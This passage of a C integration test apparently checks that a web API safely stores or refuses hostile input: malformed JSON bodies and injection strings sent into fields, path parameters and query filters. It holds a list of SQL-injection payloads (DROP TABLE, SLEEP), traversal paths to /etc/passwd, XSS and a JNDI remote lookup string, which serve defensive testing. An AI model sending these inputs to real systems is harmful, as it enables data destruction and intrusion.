/*
 * Hostile input (issue 7), on the fixture of test_authz.c:
 *  - SQL-injection and path-traversal strings in every string field of
 *    every route body, in every path parameter and in the text query
 *    filters: each is stored verbatim (a free-text field answered 2xx
 *    echoes it exactly) or refused with a 4xx, never a 5xx; a string that
 *    would sleep if executed never slows a request down, a LIKE filter
 *    only matches what literally contains it, and the schema is unchanged
 *    afterwards;
 *  - malformed bodies on every route of the table that reads a JSON body:
 *    nesting deeper than 32, truncated, invalid or overlong UTF-8, a lone
 *    surrogate, duplicate keys, a key holding U+0000, trailing bytes, a
 *    top-level array, an empty body: 400 INVALID_JSON (nesting of exactly
 *    32 is not, nor are 1e400 or an integer beyond 64 bits: valid JSON
 *    that the fields judge); bodies over the route's limit (1 MiB, 16 MiB
 *    on meter-read ingestion): 413 PAYLOAD_TOO_LARGE;
 *  - a slow client: nginx's client_header_timeout, client_body_timeout
 *    and send_timeout are set (at most 10 s on the test stack) and a
 *    client that sends its headers and then stalls is closed within
 *    client_body_timeout (a second one that stalls inside its headers,
 *    within client_header_timeout).
 * The route table comes from libdrec.a (api_routes()), as for the matrix:
 * a route with a JSON body but no template here fails the suite.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif

#include <sys/socket.h>
#include <sys/time.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <time.h>
#include <unistd.h>

#include "core/nelem.h"
#include "api/api.h"
#include "authz.h"
#include "hostile.h"

#define SLEEP_S		3	/* the hostile strings ask for this long */
#define MAX_ELAPSED	2.5	/* so a request must finish sooner */

/* The hostile strings: SQL injection, path traversal, and friends. */
static const char *const hostile[] = {
	"' OR '1'='1",
	"x'; DROP TABLE user; --",
	"\" OR \"\"=\"",
	"1 OR 1=1",
	"' OR SLEEP(3) OR '",
	"1); SELECT SLEEP(3); --",
	"admin'/*",
	"%' OR 1=1 #",
	"../../../../etc/passwd",
	"..\\..\\..\\windows\\win.ini",
	"%2e%2e%2f%2e%2e%2fetc%2fpasswd",
	"\\'; SELECT 1; --",
	"${jndi:ldap://x/a}",
	"<script>alert(1)</script>",
	"Robert'); DELETE FROM device WHERE ('1'='1",
	"%s%s%n%x",
};

/* ================================================================ helpers */

static long long	 dev_h;		/* a device of A for PATCH */
static long long	*cert_pool;	/* unclaimed certificates of R_X */
static int		 ncert_pool;
int			 cert_next;

/* Sets a dotted path ("reads.0.endtimestamp") of o to the string v. */
void
set_path(struct json_object *o, const char *path, const char *v)
{
	char			*p = strdup(path), *seg, *next;
	struct json_object	*c = o, *n;

	for (seg = p; seg != NULL; seg = next) {
		if ((next = strchr(seg, '.')) != NULL)
			*next++ = '\0';
		if (next == NULL) {
			if (json_object_is_type(c, json_type_array))
				json_object_array_put_idx(c, (size_t)atoi(seg),
				    json_object_new_string(v));
			else
				json_object_object_add(c, seg,
				    json_object_new_string(v));
			break;
		}
		n = json_object_is_type(c, json_type_array) ?
		    json_object_array_get_idx(c, (size_t)atoi(seg)) :
		    json_object_object_get(c, seg);
		if (n == NULL)
			break;
		c = n;
	}
	free(p);
}

/* 1 when some string in the tree equals s. */
static int
holds_string(struct json_object *o, const char *s)
{
	struct json_object_iterator	it, end;
	size_t				i;

	if (o == NULL)
		return 0;
	switch (json_object_get_type(o)) {
	case json_type_string:
		return strcmp(json_object_get_string(o), s) == 0;
	case json_type_array:
		for (i = 0; i < json_object_array_length(o); i++)
			if (holds_string(json_object_array_get_idx(o, i), s))
				return 1;
		return 0;
	case json_type_object:
		it = json_object_iter_begin(o);
		end = json_object_iter_end(o);
		for (; !json_object_iter_equal(&it, &end);
		    json_object_iter_next(&it))
			if (holds_string(json_object_iter_peek_value(&it), s))
				return 1;
		return 0;
	default:
		return 0;
	}
}

/* The next unclaimed certificate of R_X (used up by a 201), or the
 * claimed one. */
static long long
next_cert(void)
{
	return cert_next < ncert_pool ? cert_pool[cert_next] :
	    az.cert[AZ_OWN];
}

/* ================================================================ templates */


static char *
path_plain(const struct tmpl *t)
{
	return strdup(t->pattern);
}

char *
path_with(const struct tmpl *t, const char *v)
{
	const char	*colon = strchr(t->pattern, ':');
	size_t		 n = strcspn(colon, "/");

	return itest_fmt("%.*s%s%s", (int)(colon - t->pattern), t->pattern, v,
	    colon + n);
}

static char *
path_user(const struct tmpl *t)
{
	char	*v = itest_fmt("%lld", az.spare_user), *p = path_with(t, v);

	free(v);
	return p;
}

static char *
path_dev_h(const struct tmpl *t)
{
	char	*v = itest_fmt("%lld", dev_h), *p = path_with(t, v);

	free(v);
	return p;
}

static char *
path_dev_a(const struct tmpl *t)
{
	char	*v = itest_fmt("%lld", az.dev[AZ_OWN]), *p = path_with(t, v);

	free(v);
	return p;
}

static char *
path_dev_a_admin(const struct tmpl *t)
{
	char	*p = path_dev_a(t), *q;

	q = itest_fmt("%s?organizationId=%lld", p, az.org_a);
	free(p);
	return q;
}

static char *
path_res_h(const struct tmpl *t)
{
	char	*v = itest_fmt("%lld", az.res_h), *p = path_with(t, v);

	free(v);
	return p;
}

static char *
path_cert(const struct tmpl *t)
{
	char	*v = itest_fmt("%lld", next_cert()), *p = path_with(t, v);

	free(v);
	return p;
}

static char *
b_register(const struct tmpl *t)
{
	char	*e = itest_unique_email("hostile"), *n = itest_unique("HostOrg");
	char	*b;

	(void)t;
	b = itest_fmt("{\"firstName\":\"H\",\"lastName\":\"I\",\"email\":\"%s\","
	    "\"organizationType\":\"Buyer\",\"password\":\"" AZ_PASSWORD "\","
	    "\"confirmPassword\":\"" AZ_PASSWORD "\",\"orgName\":\"%s\","
	    "\"orgAddress\":\"Somewhere\"}", e, n);
	free(e);
	free(n);
	return b;
}

static char *
b_login(const struct tmpl *t)
{
	(void)t;
	return itest_fmt("{\"username\":\"%s\",\"password\":\"" AZ_PASSWORD
	    "\"}", az.login_email);
}

static char *
b_password(const struct tmpl *t)
{
	(void)t;
	return strdup("{\"oldPassword\":\"Wr0ngpass\",\"newPassword\":"
	    "\"Newpass12\",\"confirmPassword\":\"Newpass12\"}");
}

static char *
b_profile(const struct tmpl *t)
{
	(void)t;
	return strdup("{\"firstName\":\"P\",\"lastName\":\"Q\"}");
}

static char *
b_admin_user(const struct tmpl *t)
{
	char	*e = itest_unique_email("hadm"), *b;

	(void)t;
	b = itest_fmt("{\"firstName\":\"A\",\"lastName\":\"U\",\"email\":\"%s\","
	    "\"password\":\"" AZ_PASSWORD "\",\"confirmPassword\":\""
	    AZ_PASSWORD "\",\"role\":\"User\",\"organizationId\":%lld}", e,
	    az.org_a);
	free(e);
	return b;
}

static char *
b_status(const struct tmpl *t)
{
	(void)t;
	return strdup("{\"status\":\"Active\"}");
}

static char *
b_clock(const struct tmpl *t)
{
	(void)t;
	return strdup("{\"now\":null}");
}

static char *
b_device(const struct tmpl *t)
{
	char	*b = az_device_body(0), *full;

	(void)t;
	/* All the optional text fields, so that each can be replaced. */
	b[strlen(b) - 1] = '\0';
	full = itest_fmt("%s,\"projectName\":\"P\",\"offTaker\":\"School\","
	    "\"impactStory\":\"I\",\"images\":[\"a.png\"],"
	    "\"deviceDescription\":\"Rooftop Solar\",\"qualityLabels\":\"Q\","
	    "\"timezone\":\"Asia/Kolkata\"}", b);
	free(b);
	return full;
}

static char *
b_read(const struct tmpl *t)
{
	(void)t;
	return itest_fmt("{\"type\":\"History\",\"unit\":\"Wh\","
	    "\"timezone\":\"UTC\",\"reads\":[{\"starttimestamp\":\"%s\","
	    "\"endtimestamp\":\"%s\",\"value\":5}]}",
	    az_iso(az.onb[AZ_OWN] - 40 * 86400LL),
	    az_iso(az.onb[AZ_OWN] - 40 * 86400LL + 60));
}

static char *
b_reserve(const struct tmpl *t)
{
	char	*b = az_reservation_body(az_device(AZ_OWN, NULL), 0), *full;

	(void)t;
	b[strlen(b) - 1] = '\0';
	full = itest_fmt("%s,\"reservationExpiryDate\":\"%s\","
	    "\"blockchainAddress\":\"0xabc\"}", b,
	    az_iso(az.now + 60 * 86400LL));
	free(b);
	return full;
}

static char *
b_empty(const struct tmpl *t)
{
	(void)t;
	return strdup("{}");
}

static char *
b_claim(const struct tmpl *t)
{
	(void)t;
	return strdup("{\"beneficiary\":\"B\",\"purpose\":\"P\"}");
}

static char *
b_get_access(const struct tmpl *t)
{
	(void)t;
	return strdup("{\"client_id\":\"0123456789abcdef0123456789abcdef\","
	    "\"client_secret\":\"x\"}");
}

static char *
b_scopes(const struct tmpl *t)
{
	(void)t;
	return strdup("{\"scopes\":[\"organizations\",\"devices\",\"reads\","
	    "\"reservations\",\"certificates\"]}");
}

static char *
b_yield(const struct tmpl *t)
{
	(void)t;
	return strdup("{\"countryCode\":\"KH\",\"yieldValue\":1450,"
	    "\"status\":\"Y\"}");
}

static char *
b_file(const struct tmpl *t)
{
	(void)t;
	return strdup("{\"fileName\":\"3f1c2a44-9b1e-4c55-8d0e-2b7f7a8a9c01\"}");
}

static char *
path_org_a(const struct tmpl *t)
{
	char	*v = itest_fmt("%lld", az.org_a), *p = path_with(t, v);

	free(v);
	return p;
}
/* ---- accounts.md: templates of the account routes ---- */

static char *
b_none(const struct tmpl *t)
{
	(void)t;
	return NULL;
}

static char *
path_au1(const struct tmpl *t)
{
	char	*v = itest_fmt("%lld", az.uid_au1), *p = path_with(t, v);

	free(v);
	return p;
}

static char *
b_forget(const struct tmpl *t)
{
	(void)t;
	return strdup("{\"email\":\"nobody-hostile@x.io\"}");
}

static char *
b_reset(const struct tmpl *t)
{
	(void)t;
	return strdup("{\"newPassword\":\"Passw0rd9\",\"confirmPassword\":"
	    "\"Passw0rd9\"}");
}

static char *
b_invite(const struct tmpl *t)
{
	char	*e = itest_unique_email("hinv"), *b;

	(void)t;
	b = itest_fmt("{\"email\":\"%s\",\"role\":\"User\",\"firstName\":"
	    "\"F\",\"lastName\":\"L\"}", e);
	free(e);
	return b;
}

static char *
b_answer(const struct tmpl *t)
{
	(void)t;
	return strdup("{\"status\":\"Accepted\"}");
}

static char *
b_role(const struct tmpl *t)
{
	(void)t;
	return strdup("{\"role\":\"User\"}");
}

static char *
b_org(const struct tmpl *t)
{
	(void)t;
	return strdup("{\"name\":\"HostileOrgName\",\"address\":\"A\","
	    "\"orgEmail\":\"h@x.io\",\"status\":\"Active\","
	    "\"organizationType\":\"Buyer\"}");
}

static char *
path_token(const struct tmpl *t)
{
	return path_with(t, "0123456789abcdef0123456789abcdef"
	    "0123456789abcdef0123456789abcdef");
}

/* An invitation into A made by the Admin (once). */
static char *
path_inv(const struct tmpl *t)
{
	static long long	 id;
	struct itest_resp	 r;
	char			*b, *v, *p;

	if (id == 0) {
		b = b_invite(t);
		p = itest_fmt("/api/invitation?organizationId=%lld", az.org_a);
		itest_post(p, az.tok[AZ_ADMIN], b, &r);
		ITEST_ASSERT_STATUS_FATAL(&r, 201);
		id = itest_jint(&r, "invitation.id");
		itest_resp_free(&r);
		free(b);
		free(p);
	}
	v = itest_fmt("%lld", id);
	p = path_with(t, v);
	free(v);
	return p;
}

static char *
path_change_role(const struct tmpl *t)
{
	(void)t;
	return itest_fmt("/api/organization/%lld/change-role/%lld", az.org_a,
	    az.uid[AZ_DEVUSER]);
}

/* A Buyer organization of its own, renamed by the hostile values. */
static char *
path_org_h(const struct tmpl *t)
{
	static long long	 id;
	struct itest_resp	 r;
	char			*b, *v, *p;

	if (id == 0) {
		b = b_register(t);
		itest_post("/api/user/register", NULL, b, &r);
		ITEST_ASSERT_STATUS_FATAL(&r, 201);
		id = itest_jint(&r, "organization.id");
		itest_resp_free(&r);
		free(b);
	}
	v = itest_fmt("%lld", id);
	p = path_with(t, v);
	free(v);
	return p;
}

#define DEV_FIELDS "externalId projectName address latitude longitude " \
	"countryCode fuelCode deviceTypeCode commissioningDate offTaker " \
	"impactStory images.0 deviceDescription qualityLabels timezone"
#define DEV_ECHO "projectName address impactStory images.0 qualityLabels"
#define READ_FIELDS "type unit timezone reads.0.starttimestamp " \
	"reads.0.endtimestamp"
#define RES_FIELDS "name reservationStartDate reservationEndDate " \
	"reservationExpiryDate frequency blockchainAddress"
#define END_FIELDS "endresavationdate endreservationdate"
#define RES_TMPL(pre) \
	{ "POST", pre, AZ_BUYER, path_plain, b_reserve, RES_FIELDS, \
	  "name blockchainAddress" }, \
	{ "PATCH", pre "/:id", AZ_BUYER, path_res_h, b_empty, \
	  "name reservationEndDate reservationExpiryDate frequency " \
	  "blockchainAddress", "name" }, \
	{ "DELETE", pre "/endreservation/:id", AZ_BUYER, path_res_h, b_empty, \
	  END_FIELDS, "" }, \
	{ "DELETE", pre "/endresavation/:id", AZ_BUYER, path_res_h, b_empty, \
	  END_FIELDS, "" }

static const struct tmpl tmpls[] = {
	{ "POST", "/api/user/register", AZ_NONE, path_plain, b_register,
	  "firstName lastName email organizationType password+confirmPassword "
	  "confirmPassword orgName orgAddress",
	  "firstName lastName orgName orgAddress" },
	{ "POST", "/api/user/registerWithOrganization", AZ_NONE, path_plain,
	  b_register, "firstName lastName email organizationType "
	  "password+confirmPassword confirmPassword orgName orgAddress",
	  "firstName lastName orgName orgAddress" },
	{ "POST", "/api/auth/login", AZ_NONE, path_plain, b_login,
	  "username password", "" },
	{ "PUT", "/api/user/password", AZ_BUYUSER, path_plain, b_password,
	  "oldPassword newPassword+confirmPassword confirmPassword", "" },
	{ "PUT", "/api/user/profile", -1, path_plain, b_profile,
	  "firstName lastName email", "firstName lastName" },
	{ "POST", "/api/admin/users", AZ_ADMIN, path_plain, b_admin_user,
	  "firstName lastName email password+confirmPassword confirmPassword "
	  "role", "firstName lastName" },
	{ "PUT", "/api/admin/users/:id", AZ_ADMIN, path_user, b_status,
	  "status", "" },
	{ "PUT", "/api/test/clock", AZ_ADMIN, path_plain, b_clock, "now", "" },
	{ "POST", "/api/device", AZ_ORGADMIN, path_plain, b_device, DEV_FIELDS,
	  DEV_ECHO },
	{ "PATCH", "/api/device/:id", AZ_ORGADMIN, path_dev_h, b_device,
	  DEV_FIELDS, DEV_ECHO },
	{ "POST", "/api/meter-reads/new/:id", AZ_ORGADMIN, path_dev_a, b_read,
	  READ_FIELDS, "" },
	{ "POST", "/api/meter-reads/addByAdmin/new/:id", AZ_ADMIN,
	  path_dev_a_admin, b_read, READ_FIELDS, "" },
	RES_TMPL("/api/buyer-reservation"),
	RES_TMPL("/api/device-group"),
	{ "POST", "/api/certificate-log/:id/claim", AZ_BUYER, path_cert,
	  b_claim, "beneficiary claimedAt purpose", "beneficiary purpose" },
	/* integrators.md; role -2: ApiUser AU1 of the fixture. */
	{ "POST", "/api/auth/getAccess", AZ_NONE, path_plain, b_get_access,
	  "client_id client_secret", "" },
	{ "PUT", "/api/apiuser/scopes", -2, path_plain, b_scopes, "scopes.0",
	  "" },
	{ "POST", "/api/apiuser/organizations", -2, path_plain, b_register,
	  "firstName lastName email organizationType password+confirmPassword "
	  "confirmPassword orgName orgAddress",
	  "firstName lastName orgName orgAddress" },
	{ "DELETE", "/api/apiuser/credentials/:clientId", -2, path_plain,
	  b_none, "", "" },
	{ "PUT", "/api/admin/apiusers/:id", AZ_ADMIN, path_au1, b_status,
	  "status", "" },
	{ "PUT", "/api/permission/module/verify/ByAdmin/:id", AZ_ADMIN,
	  path_au1, b_status, "status", "" },
	{ "POST", "/api/yield/config", AZ_ADMIN, path_plain, b_yield,
	  "countryCode status", "" },
	{ "PATCH", "/api/yield/config/update/:id", AZ_ADMIN, path_user,
	  b_yield, "countryCode status", "" },
	{ "POST", "/api/buyer-reservation/process-creation-bulk-devices-csv",
	  AZ_ORGADMIN, path_plain, b_file, "fileName", "" },
	{ "POST", "/api/device-group/process-creation-bulk-devices-csv",
	  AZ_ORGADMIN, path_plain, b_file, "fileName", "" },
	{ "POST", "/api/device/addByAdmin/process-creation-bulk-devices-csv/"
	  ":orgId", AZ_ADMIN, path_org_a, b_file, "fileName", "" },
	/* ---- accounts.md */
	{ "POST", "/api/user/forget-password", AZ_NONE, path_plain, b_forget,
	  "email", "" },
	{ "PUT", "/api/user/reset/password/:token", AZ_NONE, path_token,
	  b_reset, "newPassword confirmPassword", "" },
	{ "POST", "/api/invitation", AZ_ORGADMIN, path_plain, b_invite,
	  "email role firstName lastName", "" },
	{ "PUT", "/api/invitation/:id", AZ_ORGADMIN, path_inv, b_answer,
	  "status", "" },
	{ "PUT", "/api/organization/:id/change-role/:userId", AZ_ORGADMIN,
	  path_change_role, b_role, "role", "" },
	{ "PATCH", "/api/admin/organizations/:id", AZ_ADMIN, path_org_h, b_org,
	  "name address orgEmail status organizationType", "name" },
	/* No body: the caller of the hostile path parameters. */
	{ "DELETE", "/api/organization/user/:id", AZ_ORGADMIN, path_plain,
	  b_none, "", "" },
};

const char *
tmpl_token(const struct tmpl *t)
{
	if (t->role == -2)
		return az.tok_au1;
	return t->role == -1 ? az.tok_profile : t->role == AZ_NONE ? NULL :
	    az.tok[t->role];
}

const struct tmpl *
tmpl_for(const char *method, const char *pattern)
{
	size_t i;

	for (i = 0; i < NELEM(tmpls); i++)
		if (strcmp(tmpls[i].method, method) == 0 &&
		    strcmp(tmpls[i].pattern, pattern) == 0)
			return &tmpls[i];
	return NULL;
}

/* 1 when word is one of the space-separated words of list. */
static int
in_list(const char *list, const char *word)
{
	size_t		 n = strlen(word);
	const char	*p;

	for (p = list; (p = strstr(p, word)) != NULL; p += n)
		if ((p == list || p[-1] == ' ') && (p[n] == ' ' || p[n] == '\0'))
			return 1;
	return 0;
}

/* ================================================================ setup */

void
hostile_setup(void)
{
	struct itest_resp	 r;
	struct json_object	*l;
	char			*b, *p, *reads, *t;
	long long		 onb, id;
	size_t			 i;
	int			 k;

	az_fixture();		/* itest_hostile builds it here */
	if (dev_h != 0)
		return;
	onb = az.onb[AZ_OWN];
	dev_h = az_device(AZ_OWN, NULL);
	/* 80 History reads of dA (half an hour each, inside R_X and clear of
	 * the matrix's reads), one certificate each after a pass: the claim
	 * fields of this file and of test_hostile_bb.c use them up. */
	reads = strdup("");
	for (k = 0; k < 80; k++) {
		t = itest_fmt("%s%s{\"starttimestamp\":\"%s\",\"endtimestamp\":"
		    "\"%s\",\"value\":7}", reads, k ? "," : "",
		    az_iso(onb - 6 * 86400LL + k * 1800),
		    az_iso(onb - 6 * 86400LL + (k + 1) * 1800));
		free(reads);
		reads = t;
	}
	b = itest_fmt("{\"type\":\"History\",\"unit\":\"Wh\",\"reads\":[%s]}",
	    reads);
	p = itest_fmt("/api/meter-reads/new/%lld", az.dev[AZ_OWN]);
	itest_post(p, az.tok[AZ_ORGADMIN], b, &r);
	ITEST_ASSERT_STATUS(&r, 201);
	itest_resp_free(&r);
	free(p);
	free(b);
	free(reads);
	itest_post("/api/drec-issuer/run", az.tok[AZ_ADMIN], NULL, &r);
	ITEST_ASSERT_STATUS(&r, 200);
	itest_resp_free(&r);
	/* Up to 100 certificates of R_X (20 a page), unclaimed ones kept. */
	cert_pool = calloc(100, sizeof(*cert_pool));
	for (k = 1; k <= 5; k++) {
		p = itest_fmt("/api/certificate-log/issuer/certified/%s?"
		    "pageNumber=%d", az.ruid[AZ_OWN], k);
		itest_get(p, az.tok[AZ_BUYER], &r);
		free(p);
		l = itest_jget(&r, "certificatelog");
		for (i = 0; l != NULL && i < json_object_array_length(l); i++) {
			struct json_object *c = json_object_array_get_idx(l, i);

			id = itest_oint(c, "id");
			if (itest_oisnull(c, "claim") && ncert_pool < 100)
				cert_pool[ncert_pool++] = id;
		}
		itest_resp_free(&r);
	}
	printf("\n  %d unclaimed certificates for the claim fields", ncert_pool);
}

/* ================================================================ fields */

static int	nfield_reqs, nstored, nrefused;

/* One request with a hostile value; the checks of the file's header. */
static void
hostile_field(const struct tmpl *t, const char *field, const char *v)
{
	struct itest_resp	 r;
	struct json_object	*o;
	char			*path, *body, *f, *plus;
	const char		*tok = tmpl_token(t);
	int			 echo;

	path = t->path(t);
	body = t->body(t);
	o = json_tokener_parse(body);
	ITEST_REQUIRE(o != NULL);
	f = strdup(field);
	if ((plus = strchr(f, '+')) != NULL) {
		*plus++ = '\0';
		set_path(o, plus, v);
	}
	set_path(o, f, v);
	free(body);
	body = strdup(json_object_to_json_string_ext(o,
	    JSON_C_TO_STRING_PLAIN));
	json_object_put(o);
	itest_request(t->method, path, tok, NULL, body, NULL, &r);
	nfield_reqs++;
	if (r.status == 201 && strstr(t->pattern, "/claim") != NULL)
		cert_next++;	/* that certificate is claimed now */
	echo = in_list(t->echo, f);
	if (r.status >= 200 && r.status < 300) {
		nstored++;
		if (echo && !holds_string(r.json, v)) {
			printf("\n  %s %s: %s stored as something else than \"%s\"",
			    t->method, t->pattern, f, v);
			itest_check(0, &r, "a free-text field is stored verbatim",
			    __FILE__, __LINE__, 0);
		}
	} else
		nrefused++;
	if (!(r.status >= 200 && r.status < 300) &&
	    !(r.status >= 400 && r.status < 500)) {
		printf("\n  %s %s field %s = \"%s\": %ld", t->method, t->pattern,
		    f, v, r.status);
		itest_check(0, &r, "stored (2xx) or refused (4xx)", __FILE__,
		    __LINE__, 0);
	}
	if (!itest_check(r.elapsed < MAX_ELAPSED, &r, "answered before a "
	    "SLEEP(3) could have run", __FILE__, __LINE__, 0))
		printf("\n  %s took %.2f s", t->pattern, r.elapsed);
	itest_resp_free(&r);
	free(f);
	free(body);
	free(path);
}

static void
test_fields(void)
{
	const struct route	*rt;
	const struct api_route	*ar;
	const struct tmpl	*t;
	size_t			 n, i, k;
	char			*fields, *f, *save;

	hostile_setup();
	rt = api_routes(&n);
	for (i = 0; i < n; i++) {
		ar = rt[i].data;
		if (ar->body != BODY_JSON && ar->body != BODY_OPTIONAL)
			continue;
		if ((t = tmpl_for(rt[i].method, rt[i].pattern)) == NULL) {
			printf("\n  %s %s takes a JSON body but has no template "
			    "in tests/integration/test_hostile.c",
			    rt[i].method, rt[i].pattern);
			CU_FAIL("a JSON-body route without a hostile template");
			continue;
		}
		fields = strdup(t->fields);
		for (f = strtok_r(fields, " ", &save); f != NULL;
		    f = strtok_r(NULL, " ", &save))
			for (k = 0; k < NELEM(hostile); k++)
				hostile_field(t, f, hostile[k]);
		free(fields);
	}
	printf("\n  %d requests with hostile field values: %d stored, %d "
	    "refused\n", nfield_reqs, nstored, nrefused);
}

/* ================================================================ paths */

/* The query a route needs before it looks its parameter up. */
const char *
param_query(const char *pattern)
{
	if (strcmp(pattern, "/api/meter-reads/:id") == 0)
		return "?start=2000-01-01T00:00:00Z&end=2100-01-01T00:00:00Z";
	if (strcmp(pattern, "/api/meter-reads/new/:id") == 0)
		return "?readType=meterReads&start=2000-01-01T00:00:00Z"
		    "&end=2100-01-01T00:00:00Z";
	return "";
}

static void
test_path_params(void)
{
	const struct route	*rt;
	const struct tmpl	*t;
	struct itest_resp	 r;
	size_t			 n, i, k;
	char			*enc, *path, *body, *q, *fake;
	const char		*tok;
	int			 nreq = 0;

	hostile_setup();
	rt = api_routes(&n);
	for (i = 0; i < n; i++) {
		if (strchr(rt[i].pattern, ':') == NULL)
			continue;
		t = tmpl_for(rt[i].method, rt[i].pattern);
		tok = t != NULL ? tmpl_token(t) : strstr(rt[i].pattern,
		    "/claim") ? az.tok[AZ_BUYER] : az.tok[AZ_ADMIN];
		for (k = 0; k < NELEM(hostile); k++) {
			struct tmpl one = { rt[i].method, rt[i].pattern, 0, NULL,
			    NULL, NULL, NULL };

			enc = itest_urlencode(hostile[k]);
			fake = path_with(&one, enc);
			q = strstr(rt[i].pattern, "addByAdmin") ?
			    itest_fmt("?organizationId=%lld", az.org_a) :
			    strdup(param_query(rt[i].pattern));
			path = itest_fmt("%s%s", fake, q);
			body = t != NULL ? t->body(t) : NULL;
			itest_request(rt[i].method, path, tok, NULL, body, NULL,
			    &r);
			nreq++;
			if (!itest_check(r.status >= 400 && r.status < 500 &&
			    r.status != 401 && r.status != 403, &r,
			    "a hostile path parameter is refused (400/404)",
			    __FILE__, __LINE__, 0))
				printf("\n  %s %s with \"%s\"", rt[i].method,
				    rt[i].pattern, hostile[k]);
			itest_check(r.elapsed < MAX_ELAPSED, &r, "no SLEEP ran",
			    __FILE__, __LINE__, 0);
			itest_resp_free(&r);
			free(enc);
			free(fake);
			free(q);
			free(path);
			free(body);
		}
	}
	printf("\n  %d requests with hostile path parameters\n", nreq);
}

/* Encoded traversal sent as is: nginx or drecd refuses it, never 2xx. */
static void
test_raw_traversal(void)
{
	static const char *const raw[] = {
		"/api/device/..%2F..%2Fadmin%2Fusers",
		"/api/device/..%2Fadmin%2Fusers",
		"/api/device/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
		"/api/device/..%5c..%5cadmin",
		"/api/device/%00",
		"/api/device/1%00",
		"/api/device/..;/admin/users",
		"/api/meter-reads/..%2F..%2Fadmin%2Fusers?start=2000-01-01T00:00:00Z&end=2100-01-01T00:00:00Z",
		"/api/buyer-reservation/..%2F..%2Fadmin%2Fusers",
		"/api/buyer-reservation/%2e%2e",
		"/api/certificate-log/..%2F..%2Fadmin%2Fusers/claim",
		"/api/../api/admin/users%2F..",
		"/api/%2e%2e/etc/passwd",
	};
	struct itest_resp	r;
	size_t			i;

	hostile_setup();
	for (i = 0; i < NELEM(raw); i++) {
		itest_get(raw[i], az.tok[AZ_BUYER], &r);
		if (!itest_check(r.status >= 400 && r.status < 500, &r,
		    "an encoded traversal is refused", __FILE__, __LINE__, 0))
			printf("\n  %s", raw[i]);
		itest_resp_free(&r);
	}
}

/* ================================================================ queries */

static void
test_query_params(void)
{
	static const struct { int role; const char *path, *param; } qs[] = {
		{ AZ_ADMIN, "/api/admin/users", "organizationName" },
		{ AZ_ADMIN, "/api/admin/organizations", "organizationName" },
		{ AZ_ADMIN, "/api/admin/users", "status" },
		{ AZ_NONE, "/api/countrycode/list", "searchKeyWord" },
		{ AZ_BUYER, "/api/meter-reads/time-zones", "timezoneSearchKeyword" },
		{ AZ_BUYER, "/api/buyer-reservation/my", "name" },
		{ AZ_BUYER, "/api/buyer-reservation/my", "country" },
		{ AZ_BUYER, "/api/device/ungrouped/buyerreservation", "fuelCode" },
		{ AZ_ORGADMIN, "/api/device/my", "start_date" },
		{ AZ_BUYER, "/api/certificate-log/issuer/certifiedlogOfdevices",
		  "groupUid" },
		{ AZ_BUYER, "/api/certificate-log/by-reservation-groupId",
		  "groupId" },
		{ AZ_NONE, "/api/certificate-log/ledger", "afterId" },
	};
	struct itest_resp	 r;
	struct json_object	*users, *u;
	const char		*name;
	char			*enc, *path;
	size_t			 i, k, j;
	int			 nreq = 0;

	hostile_setup();
	for (i = 0; i < NELEM(qs); i++)
		for (k = 0; k < NELEM(hostile); k++) {
			enc = itest_urlencode(hostile[k]);
			path = itest_fmt("%s?%s=%s", qs[i].path, qs[i].param, enc);
			itest_get(path, qs[i].role == AZ_NONE ? NULL :
			    az.tok[qs[i].role], &r);
			nreq++;
			if (!itest_check(r.status == 200 || r.status == 400 ||
			    r.status == 404, &r, "a hostile filter is applied "
			    "literally or refused", __FILE__, __LINE__, 0))
				printf("\n  %s", path);
			itest_check(r.elapsed < MAX_ELAPSED, &r, "no SLEEP ran",
			    __FILE__, __LINE__, 0);
			/* LIKE: every user listed has an organization whose
			 * name holds the text (case-insensitively). */
			if (r.status == 200 && strcmp(qs[i].param,
			    "organizationName") == 0 && strcmp(qs[i].path,
			    "/api/admin/users") == 0) {
				users = itest_jget(&r, "users");
				for (j = 0; users != NULL &&
				    j < json_object_array_length(users); j++) {
					u = json_object_array_get_idx(users, j);
					name = itest_ostr(u, "organization.name");
					if (!itest_check(name != NULL &&
					    strcasestr(name, hostile[k]) != NULL,
					    &r, "organizationName matches "
					    "literally", __FILE__, __LINE__, 0))
						break;
				}
			}
			itest_resp_free(&r);
			free(enc);
			free(path);
		}
	printf("\n  %d requests with hostile query values\n", nreq);
}

/* ================================================================ bodies */

static char *
nested(int depth)
{
	char	*s = malloc((size_t)depth * 2 + 16), *p = s;
	int	 i;

	p += sprintf(p, "{\"a\":");
	for (i = 1; i < depth; i++)
		*p++ = '[';
	for (i = 1; i < depth; i++)
		*p++ = ']';
	strcpy(p, "}");
	return s;
}

static char *
huge(size_t size)
{
	char	*s = malloc(size + 1);

	memset(s, 'x', size);
	memcpy(s, "{\"pad\":\"", 8);
	memcpy(s + size - 2, "\"}", 2);
	s[size] = '\0';
	return s;
}

/* The malformed bodies: text (NULL: built), and what they must get. */
static const struct {
	const char	*name;
	const char	*body;
	long		 status;
	const char	*code;
} bad[] = {
	{ "nesting 33", NULL, 400, "INVALID_JSON" },
	{ "truncated", "{\"name\": \"abc", 400, "INVALID_JSON" },
	{ "truncated object", "{\"a\":{\"b\":[1,2", 400, "INVALID_JSON" },
	{ "invalid UTF-8", "{\"name\":\"\xc3\x28\"}", 400, "INVALID_JSON" },
	{ "bytes ff fe", "{\"name\":\"\xff\xfe\"}", 400, "INVALID_JSON" },
	{ "overlong UTF-8 '/'", "{\"name\":\"\xc0\xaf\"}", 400, "INVALID_JSON" },
	{ "UTF-16 surrogate as UTF-8", "{\"name\":\"\xed\xa0\x80\"}", 400,
	  "INVALID_JSON" },
	{ "lone surrogate escape", "{\"name\":\"\\ud800\"}", 400,
	  "INVALID_JSON" },
	{ "duplicate keys", "{\"a\":1,\"a\":1}", 400, "INVALID_JSON" },
	{ "nested duplicate keys", "{\"o\":{\"b\":1,\"b\":2}}", 400,
	  "INVALID_JSON" },
	{ "key holding U+0000", "{\"a\\u0000\":1,\"a\":2}", 400,
	  "INVALID_JSON" },
	{ "trailing bytes", "{} x", 400, "INVALID_JSON" },
	{ "two objects", "{}{}", 400, "INVALID_JSON" },
	{ "top-level array", "[{}]", 400, "INVALID_JSON" },
	{ "top-level string", "\"{}\"", 400, "INVALID_JSON" },
	{ "NaN", "{\"value\":NaN}", 400, "INVALID_JSON" },
